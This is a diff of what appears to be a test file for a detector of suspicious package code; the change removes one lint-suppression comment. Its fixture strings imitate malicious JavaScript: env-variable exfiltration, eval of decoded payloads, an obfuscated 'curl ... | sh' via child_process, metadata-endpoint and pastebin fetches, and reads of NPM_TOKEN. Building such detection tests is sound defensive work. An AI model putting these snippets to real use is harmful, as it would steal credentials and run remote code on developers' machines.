@@ -24,7 +24,6 @@ function withParser<T>(choice: ParserChoice, run: () => T): T {
 const SHAPES: Array<[name: string, code: string, kind?: 'js' | 'ts', path?: string]> = [
   ['commonjs with decoders', "const cp = require('child_process');\nconst u = Buffer.from('aHR0cHM6Ly8yMDMuMC4xMTMuOS94', 'base64').toString();\neval(atob(p));\nfor (const k in process.env) send(k);\n"],
   ['esm with dynamic import and fetch', "import https from 'node:https';\nexport * from './lib/x.js';\nconst m = await import('./y.js');\nfetch('https://webhook.site/abc');\n"],
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: the source text of a package under analysis, which holds a template literal.
   ['folding and bindings', "const n = ['chi', 'ld_process'].join('');\nrequire(n)[String.fromCharCode(101,120,101,99)]('curl https://x.example | sh');\nmodule.constructor._load('ne' + 't');\nconst t = `${'h'}ttps://169.254.169.254/latest`;\n"],
   ['non-ASCII text before signals', "// ünïcödé — 日本語 — emoji 🎉\nconst s = 'é'.repeat(3);\nrequire('https').get('https://pastebin.com/raw/x');\nprocess.env.NPM_TOKEN;\n"],
   ['typescript', "import type { A } from './a';\nexport async function f(u: string): Promise<A> {\n  const r = await fetch(u) as Response;\n  return (await r.json()) as A;\n}\nenum E { X = 'https://203.0.113.5/x' }\n", 'ts', 'src/f.ts'],
